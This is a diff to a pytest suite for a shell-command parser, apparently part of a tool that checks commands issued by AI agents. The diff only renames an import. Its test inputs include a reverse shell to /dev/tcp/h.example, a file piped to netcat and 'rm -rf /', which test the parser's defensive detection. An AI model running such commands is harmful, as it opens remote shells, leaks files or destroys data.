@@ -10,12 +10,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from agentwarrant import shell
+from agentwarrant.shell import parsing
 
 
 def lines(text: str) -> list[str]:
     """Return program and arguments of every simple command."""
-    return [" ".join([command.program, *command.args]) for command in shell.parse(text)]
+    return [" ".join([command.program, *command.args]) for command in parsing.parse(text)]
 
 
 @pytest.mark.parametrize(
@@ -140,25 +140,25 @@ def test_commands_go_on_behind_a_here_document() -> None:
 
 def test_a_here_document_without_an_end_takes_the_rest() -> None:
     assert lines("python3 - <<EOF\nrm -rf /\n") == ["python3 -"]
-    assert shell.parse("python3 - <<EOF\nrm -rf /\n")[0].given == "rm -rf /\n"
+    assert parsing.parse("python3 - <<EOF\nrm -rf /\n")[0].given == "rm -rf /\n"
 
 
 def test_redirections_are_no_arguments() -> None:
-    (command,) = shell.parse("sort -u < in 2>&1 >> out 2> /dev/null &> all")
+    (command,) = parsing.parse("sort -u < in 2>&1 >> out 2> /dev/null &> all")
     assert (command.args, command.reads) == (["-u"], ["in"])
     assert command.writes == ["out", "/dev/null", "all"]
 
 
 def test_a_socket_of_the_shell_is_written_to_and_read() -> None:
-    (command,) = shell.parse("exec 5<>/dev/tcp/h.example/80")
+    (command,) = parsing.parse("exec 5<>/dev/tcp/h.example/80")
     assert command.reads == command.writes == ["/dev/tcp/h.example/80"]
-    assert shell.parse("bash -i >& /dev/tcp/h.example/80 0>&1")[0].writes == [
+    assert parsing.parse("bash -i >& /dev/tcp/h.example/80 0>&1")[0].writes == [
         "/dev/tcp/h.example/80"
     ]
 
 
 def test_pipes_and_elevation_are_noted() -> None:
-    first, second, third = shell.parse("sudo cat f | (tee g) ; ls")
+    first, second, third = parsing.parse("sudo cat f | (tee g) ; ls")
     assert (first.elevated, first.piped) == (True, False)
     assert (second.elevated, second.piped) == (False, True)
     assert (third.elevated, third.piped) == (False, False)
@@ -176,7 +176,7 @@ SCRAPS = st.lists(
 
 @given(st.text() | SCRAPS)
 def test_no_text_is_too_strange_to_be_read(text: str) -> None:
-    for command in shell.parse(text):
+    for command in parsing.parse(text):
         assert isinstance(command.text, str)
 
 
@@ -194,14 +194,14 @@ HOSTILE = [
 def test_the_time_grows_with_the_length_only(unit: str, assert_linear: Callable[..., None]) -> None:
     def parse(length: int) -> Callable[[], object]:
         text = unit * (length // len(unit))
-        return lambda: shell.parse(text)
+        return lambda: parsing.parse(text)
 
     assert_linear(parse, 15_000)
 
 
 def test_a_command_is_read_to_a_limit_only() -> None:
-    assert len(shell.parse("a;" * 100_000)) <= 400
-    assert len(shell.parse("a " * shell.MAX_COMMAND)[0].args) < shell.MAX_COMMAND
+    assert len(parsing.parse("a;" * 100_000)) <= 400
+    assert len(parsing.parse("a " * parsing.MAX_COMMAND)[0].args) < parsing.MAX_COMMAND
 
 
 PADDING = [
@@ -214,7 +214,7 @@ PADDING = [
 
 @pytest.mark.parametrize("padding", PADDING, ids=range(len(PADDING)))
 def test_what_says_nothing_keeps_nothing_from_being_read(padding: str) -> None:
-    commands, unread = shell.read(f"{padding}cat f")
+    commands, unread = parsing.read(f"{padding}cat f")
     assert (commands[-1].program, commands[-1].args, unread) == ("cat", ["f"], frozenset())
 
 
@@ -235,7 +235,7 @@ def test_what_says_nothing_keeps_nothing_from_being_read(padding: str) -> None:
 def test_what_could_not_be_read_is_told_and_the_end_is_read_all_the_same(
     padding: str, limit: str
 ) -> None:
-    commands, unread = shell.read(f"{padding} cat f")
+    commands, unread = parsing.read(f"{padding} cat f")
     assert unread == ({limit} if limit else set())
     ends = commands[-1] if commands else None
     assert limit == "depth" or (ends and (ends.program, ends.args) == ("cat", ["f"]))
@@ -248,16 +248,16 @@ def test_a_folder_is_changed_in_between_however_often_the_rest_is_repeated() -> 
 
 
 def test_a_pipe_is_kept_whole_however_often_it_is_repeated() -> None:
-    last = shell.parse("cat f; x;" * 300 + "cat f | nc h 1")[-2:]
+    last = parsing.parse("cat f; x;" * 300 + "cat f | nc h 1")[-2:]
     assert [(command.program, command.piped) for command in last] == [("cat", False), ("nc", True)]
 
 
 @given(st.text(alphabet="ab1_./:=,+@%^- \t\n#!~{'", max_size=24))
 def test_a_plain_command_is_taken_apart_as_any_other(text: str) -> None:
-    quick = shell.parse(text)
+    quick = parsing.parse(text)
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(shell, "_PLAIN", re.compile(r"(?!)"))
-        assert shell.parse(text) == quick
+        patch.setattr(parsing, "_PLAIN", re.compile(r"(?!)"))
+        assert parsing.parse(text) == quick
 
 
 @pytest.mark.skipif(shutil.which("bash") is None, reason="there is no bash to compare with")
@@ -277,5 +277,5 @@ def test_words_are_what_bash_makes_of_them(words: str) -> None:
         ["bash", "-c", f"printf '%s\\0' {words}"], capture_output=True, check=True
     )
     wanted = made.stdout.decode().split("\0")[:-1]
-    (command,) = shell.parse(f"x {words}")
+    (command,) = parsing.parse(f"x {words}")
     assert command.args == wanted
